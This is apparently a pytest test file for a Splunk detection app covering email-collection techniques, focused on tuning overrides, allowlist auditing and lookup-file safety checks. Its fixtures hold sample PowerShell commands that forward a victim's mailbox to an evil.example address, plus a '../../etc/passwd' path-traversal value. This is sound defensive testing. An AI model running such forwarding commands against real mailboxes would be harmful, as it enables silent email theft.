"""Tuning from inside Splunk (issue 25): the t1114_overrides lookup, who may change what silences a
detection, rows that say who added them, t1114 lookups written into another app, and shipped lookup
files that change only under a new name."""

import json
import os
import shutil

import pytest

from app.engine import Engine
from app.problems import ProblemLog
from tests.conftest import REPO, copy_app_root, shipped_lookup_path
from tools.build import check_shipped_lookup_names
from tools.chunked_client import run, script_path

WHEN = "1764216000"
SIGNED = "alice,2026-12-01T10:00:00Z"
FORWARDING = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com", "_time": WHEN,
              "ScriptBlockText": "Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example"}
INBOX_RULE = dict(FORWARDING, ScriptBlockText="New-InboxRule -Name a -ForwardTo x@evil.example")
VEEAM_READ = {
    "_time": WHEN, "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
    "Computer": "ws-017.contoso.com", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
    "ObjectType": "File", "ObjectName": r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
    "ProcessName": r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe",
    "AccessList": "%%4416", "AccessMask": "0x1"}
HEADER = "target_type,target,state,severity,risk_score,reason,added_by,added_at\n"


def app_with(tmp_path, overrides=None, local_conf=None, site_files=None, name="approot"):
    root = tmp_path / name
    copy_app_root(root)
    if local_conf is not None:
        (root / "local").mkdir()
        (root / "local" / "t1114.conf").write_text(local_conf, encoding="utf-8")
    files = dict(site_files or {})
    if overrides is not None:
        files["t1114_overrides.csv"] = HEADER + overrides
    for filename, text in files.items():
        (root / "lookups" / filename).write_text(text, encoding="utf-8")
    return str(root)


def annotated(engine, record):
    record = dict(record)
    engine.annotate(record)
    return record


def warnings_of(engine):
    return [m for m in engine.problems.messages() if "t1114_org_domains lists no domains" not in m]


def test_overrides_turn_rules_off_report_only_and_change_severity_and_risk(tmp_path):
    engine = Engine.load(app_with(tmp_path, (
        "rule,t1114_003_inbox_rule_forward_cmdlet,report_only,,,triage first,%s\n"
        "rule,t1114_003_mailbox_forwarding,,low,20,reviewed weekly,%s\n"
        "rule,t1114_002_legacy_protocol_signin,off,,,no legacy auth here,%s\n") % (SIGNED, SIGNED, SIGNED)),
        ProblemLog())
    assert warnings_of(engine) == []
    assert "t1114_002_legacy_protocol_signin" not in {rule.id for rule in engine.rules}
    assert annotated(engine, INBOX_RULE)["t1114_status"] == "report_only"
    forwarding = annotated(engine, FORWARDING)
    assert (forwarding["t1114_severity"], forwarding["risk_score"]) == ("low", "20")


def test_an_override_wins_over_local_conf_and_a_later_row_over_an_earlier_one(tmp_path):
    local = "[allowlist]\ndisabled_shipped_rows = veeam_agent\n\n[rule:t1114_003_mailbox_forwarding]\nseverity = low\n"
    engine = Engine.load(app_with(tmp_path, (
        "shipped_row,veeam_agent,on,,,Veeam is back,%s\n"
        "rule,t1114_003_mailbox_forwarding,,critical,,escalate,%s\n"
        "rule,t1114_003_mailbox_forwarding,,high,,second thoughts,%s\n") % (SIGNED, SIGNED, SIGNED), local),
        ProblemLog())
    assert warnings_of(engine) == []
    assert annotated(engine, VEEAM_READ)["t1114_status"] == "suppressed"
    assert annotated(engine, FORWARDING)["t1114_severity"] == "high"


def test_a_shipped_row_switched_off_by_an_override(tmp_path):
    engine = Engine.load(app_with(tmp_path, "shipped_row,veeam_agent,off,,,no Veeam here,%s\n" % SIGNED), ProblemLog())
    assert warnings_of(engine) == []
    assert annotated(engine, VEEAM_READ)["t1114_status"] == "finding"


def test_bad_override_rows_are_one_warning_each_with_the_closest_name(tmp_path):
    engine = Engine.load(app_with(tmp_path, (
        "rul,t1114_003_mailbox_forwarding,off,,,typo,%s\n"
        "rule,t1114_003_mailbox_forwardin,off,,,typo,%s\n"
        "shipped_row,veeam_agnt,off,,,typo,%s\n"
        "rule,t1114_003_inbox_rule_forward_cmdlet,sometimes,,,bad state,%s\n"
        "shipped_row,veeam_agent,report_only,high,,bad state,%s\n"
        "rule,,off,,,no target,%s\n"
        "rule,t1114_002_send_as_grant,off,,,,,\n") % ((SIGNED,) * 6)), ProblemLog())
    warnings = warnings_of(engine)
    where = "lookups/t1114_overrides.csv line %d"

    def one(*parts):
        found = [w for w in warnings if all(part in w for part in parts)]
        assert len(found) == 1, (parts, warnings)

    one(where % 2, "target_type 'rul'", "did you mean rule?")
    one(where % 3, "there is no rule t1114_003_mailbox_forwardin", "did you mean t1114_003_mailbox_forwarding?")
    one(where % 4, "'veeam_agnt'", "did you mean veeam_agent?")
    one(where % 5, "state = 'sometimes'")
    one(where % 6, "severity applies to rules")
    one(where % 6, "use on or off")
    one(where % 7, "`target` is empty")
    one("t1114_overrides.csv: the rows on line(s) 8 do not say who added them")
    # The rows that were right still apply; the wrong ones changed nothing.
    assert "t1114_002_send_as_grant" not in {rule.id for rule in engine.rules}
    assert "t1114_003_mailbox_forwarding" in {rule.id for rule in engine.rules}
    assert annotated(engine, VEEAM_READ)["t1114_status"] == "suppressed"
    assert annotated(engine, INBOX_RULE)["t1114_status"] == "finding"


def test_an_overrides_file_without_its_key_columns_is_one_warning(tmp_path):
    root = app_with(tmp_path, site_files={"t1114_overrides.csv": "rule,state\nt1114_003_mailbox_forwarding,off\n"})
    engine = Engine.load(root, ProblemLog())
    (warning,) = warnings_of(engine)
    assert warning.startswith("lookups/t1114_overrides.csv lacks the column(s) target_type, target")
    assert "t1114_003_mailbox_forwarding" in {rule.id for rule in engine.rules}


def test_site_allowlist_rows_that_do_not_say_who_added_them_are_named(tmp_path):
    site = {"t1114_allowlist_accounts.csv": "account,reason,added_by,added_at\n"
                                            "svc-a@contoso.com,migration,alice,2026-12-01\n"
                                            "svc-b@contoso.com,migration,,\n"
                                            "svc-c@contoso.com,migration,bob,\n"}
    engine = Engine.load(app_with(tmp_path, site_files=site), ProblemLog())
    assert warnings_of(engine) == [
        "lookups/t1114_allowlist_accounts.csv: the rows on line(s) 3, 4 do not say who added them and when "
        "(columns added_by and added_at); they still apply, but fill those columns so the Allowlist Audit can "
        "name who silenced what."]
    assert len([row for row in engine.allowlist_rows if not row.row_id]) == 3


def test_overrides_reach_the_command_as_splunkd_runs_it(built_app, tmp_path):
    app_dir = str(tmp_path / "etc" / "apps" / os.path.basename(built_app))
    shutil.copytree(built_app, app_dir)
    with open(os.path.join(app_dir, "lookups", "t1114_overrides.csv"), "w", encoding="utf-8") as handle:
        handle.write(HEADER + "rule,t1114_003_mailbox_forwarding,,critical,90,escalate,%s\n"
                              "rule,t1114_003_mailbox_forwardng,off,,,typo,%s\n" % (SIGNED, SIGNED))
    result = run(script_path(app_dir), [FORWARDING], args=["mode=all"])
    assert result["exit_code"] == 0, result["stderr"]
    (record,) = result["records"]
    assert (record["t1114_severity"], record["risk_score"]) == ("critical", "90")
    warnings = [text for level, text in result["messages"] if level == "WARN"]
    assert [w for w in warnings if "did you mean t1114_003_mailbox_forwarding?" in w]


def test_t1114_lookups_in_another_app_are_not_read_and_are_named_once(built_app, tmp_path):
    """`| outputlookup t1114_allowlist_accounts` run from Search & Reporting before the file exists
    in this app creates it in search/lookups/: whoever may write there must not silence detections."""
    etc = tmp_path / "etc"
    app_dir = str(etc / "apps" / os.path.basename(built_app))
    shutil.copytree(built_app, app_dir)
    row = "account,reason,added_by,added_at\nmallory@contoso.com,my own account,mallory,2026-12-01\n"
    for folder in (etc / "apps" / "search" / "lookups",
                   etc / "users" / "mallory" / os.path.basename(built_app) / "lookups"):
        folder.mkdir(parents=True)
        (folder / "t1114_allowlist_accounts.csv").write_text(row, encoding="utf-8")
    result = run(script_path(app_dir), [FORWARDING, dict(FORWARDING)], args=["mode=all"])
    assert result["exit_code"] == 0, result["stderr"]
    assert [record["t1114_status"] for record in result["records"]] == ["finding", "finding"]
    foreign = [text for level, text in result["messages"] if "another app" in text]
    assert len(foreign) == 1, result["messages"]
    assert "apps/search/lookups/t1114_allowlist_accounts.csv" in foreign[0]
    assert "users/mallory/%s/lookups/t1114_allowlist_accounts.csv" % os.path.basename(built_app) in foreign[0]


def test_shipped_lookup_files_change_only_under_a_new_name(tmp_path):
    lookups = tmp_path / "lookups"
    lookups.mkdir()
    manifest = tmp_path / "shipped_lookups.json"
    shipped = shipped_lookup_path("t1114_shipped_processes")
    name = os.path.basename(shipped)
    shutil.copy(shipped, str(lookups))
    with open(os.path.join(REPO, "tools", "shipped_lookups.json"), encoding="utf-8") as handle:
        released = json.load(handle)
    assert name in released
    manifest.write_text(json.dumps({name: released[name]}), encoding="utf-8")
    assert check_shipped_lookup_names(str(lookups), {name}, str(manifest)) == []

    edited = lookups / name
    edited.write_text(edited.read_text(encoding="utf-8").replace("Veeam", "Veeeam"), encoding="utf-8")
    (message,) = check_shipped_lookup_names(str(lookups), {name}, str(manifest))
    assert message.startswith("lookups/%s changed, but a released version shipped that name" % name)

    new = "t1114_shipped_processes_29991231.csv"
    edited.rename(lookups / new)
    (message,) = check_shipped_lookup_names(str(lookups), {new}, str(manifest))
    assert "record it with `python tools/build.py --record-shipped-lookups`" in message
    assert check_shipped_lookup_names(str(lookups), {new}, str(manifest), record=True) == []
    assert set(json.loads(manifest.read_text(encoding="utf-8"))) == {name, new}
    assert json.loads(manifest.read_text(encoding="utf-8"))[name] == released[name]   # never rewritten

    shutil.copy(shipped, str(lookups))     # the old file left beside the new one, named by no definition
    (message,) = check_shipped_lookup_names(str(lookups), {new}, str(manifest))
    assert message.startswith("lookups/%s is named by no definition" % name)


def test_every_shipped_file_in_the_repository_is_recorded_as_it_is():
    named = {os.path.basename(shipped_lookup_path(d))
             for d in ("t1114_shipped_accounts", "t1114_shipped_processes", "t1114_shipped_applications")}
    assert check_shipped_lookup_names(os.path.join(REPO, "lookups"), named) == []


@pytest.mark.parametrize("filename", ["../../etc/passwd", "/tmp/x.csv", "sub/x.csv"])
def test_a_definition_may_only_name_a_file_in_the_apps_lookups(tmp_path, filename):
    root = app_with(tmp_path)
    with open(os.path.join(root, "default", "transforms.conf"), "a", encoding="utf-8") as handle:
        handle.write("\n[t1114_allowlist_accounts]\nfilename = %s\n" % filename)
    engine = Engine.load(root, ProblemLog())
    (warning,) = warnings_of(engine)
    assert "[t1114_allowlist_accounts] filename = %r: give a file name in the app's lookups/ folder" % filename in warning
